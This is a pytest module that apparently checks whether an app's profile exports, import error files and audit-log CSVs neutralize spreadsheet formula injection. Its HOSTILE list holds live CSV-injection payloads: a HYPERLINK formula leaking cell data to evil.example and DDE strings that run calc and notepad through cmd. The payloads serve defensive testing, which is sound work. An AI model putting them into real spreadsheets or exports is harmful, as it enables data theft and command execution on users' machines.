"""Every CSV and xlsx file the app writes (profile exports as csv, zip and xlsx, the import
error file as csv and xlsx, the audit log as CSV), held against the same hostile headers and
cells: no cell of any of them runs as a formula when a spreadsheet opens it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import polars as pl
import pytest
from sqlmodel import Session

from profile_ui.models import FieldDefinition, Profile, ProfileTag, Tag, TagGroup, utcnow
from profile_ui.services.audit import record_event
from profile_ui.services.exporting import export_audit_csv, export_profiles
from profile_ui.services.importing import ROW_COL
from profile_ui.services.importing.results import write_error_file
from profile_ui.services.profiles import ProfileFilter
from profile_ui.settings import get_settings
from tests.unit.profile_world import World, build_world

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C notepad'!A0",
    "\t=1+1",
    "\r=2+2",
]
RUNS = re.compile(r"^[=+\-@\t\r\x00]")
PLAIN_NUMBER = re.compile(r"^[+-]?[0-9]+(\.[0-9]+)?$")


def _runs_as_formula(cell: str) -> bool:
    return bool(RUNS.match(cell)) and not PLAIN_NUMBER.match(cell)


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_cells(path: Path) -> list[list[object]]:
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                xml = package.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"{path.name}: a formula element in {name}"
    book = openpyxl.load_workbook(path)
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}: {cell.coordinate} is a formula"
            rows.append([cell.value for cell in row])
    return rows


def _check_csv(data: bytes, name: str) -> None:
    cells = [c for row in _csv_cells(data) for c in row]
    bad = [c for c in cells if _runs_as_formula(c)]
    assert not bad, f"{name}: cells a spreadsheet runs: {bad}"
    for value in HOSTILE:  # kept, only made inert
        assert "'" + value in cells, f"{name}: {value!r} is missing"


def _check_xlsx(path: Path) -> None:
    # openpyxl leaves OOXML's _xHHHH_ escapes (how a CR is stored) as they are; Excel reads them
    texts = {
        re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), str(v))
        for row in _xlsx_cells(path)
        for v in row
        if v is not None
    }
    for value in HOSTILE:  # a string cell with the text as it was
        assert value in texts, f"{path.name}: {value!r} is missing"


@pytest.fixture
def world(session: Session, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> World:
    monkeypatch.setattr(get_settings(), "data_dir", tmp_path / "data")
    world = build_world(session)
    # hostile field labels and tag names become export headers; hostile values its cells
    group = TagGroup(name="Evil tags")
    session.add(group)
    session.flush()
    now = utcnow()
    for n, value in enumerate(HOSTILE):
        session.add(FieldDefinition(key=f"evil_{n}", label=value, type="text", position=90 + n))
        tag = Tag(group_id=group.id, name=value, kind="text")
        profile = Profile(full_name=value, city=value, attributes={f"evil_{n}": value}, created_at=now, updated_at=now)
        session.add_all([tag, profile])
        session.flush()
        session.add(ProfileTag(profile_id=profile.id, tag_id=tag.id, value=value))
    session.commit()
    return world


@pytest.mark.parametrize("fmt", ["csv", "zip", "xlsx"])
def test_profile_exports_neutralize_hostile_headers_and_cells(session, world, fmt):
    result = export_profiles(session=session, actor=world.admin, flt=ProfileFilter(), fields_mode="all", fmt=fmt)
    if fmt == "xlsx":
        _check_xlsx(result.path)
        return
    data = result.path.read_bytes()
    if fmt == "zip":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            data = archive.read(archive.namelist()[0])
    _check_csv(data, result.path.name)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_error_files_neutralize_hostile_headers_and_cells(tmp_path, fmt):
    headers = list(HOSTILE)
    frame = pl.DataFrame({ROW_COL: [2, 3], **{h: [h, f"fine {n}"] for n, h in enumerate(headers)}})
    sheet = SimpleNamespace(headers=headers, frame=frame)
    errors = {2: [{"column": HOSTILE[0], "message": "not a valid e-mail address"}], 3: [HOSTILE[2]]}
    path = write_error_file(sheet, errors, tmp_path / f"errors.{fmt}", fmt)
    if fmt == "xlsx":
        _check_xlsx(path)
    else:
        _check_csv(path.read_bytes(), path.name)


def test_audit_csv_neutralizes_hostile_cells(session, world):
    for value in HOSTILE:
        record_event(
            session=session,
            actor=world.admin,
            action="profile.edit",
            object_type="profile",
            object_id=value[:32],
            reason=value,
            details={"note": value},
        )
    session.commit()
    out = io.BytesIO()
    export_audit_csv(session=session, actor=world.admin, out=out)
    _check_csv(out.getvalue(), "audit.csv")
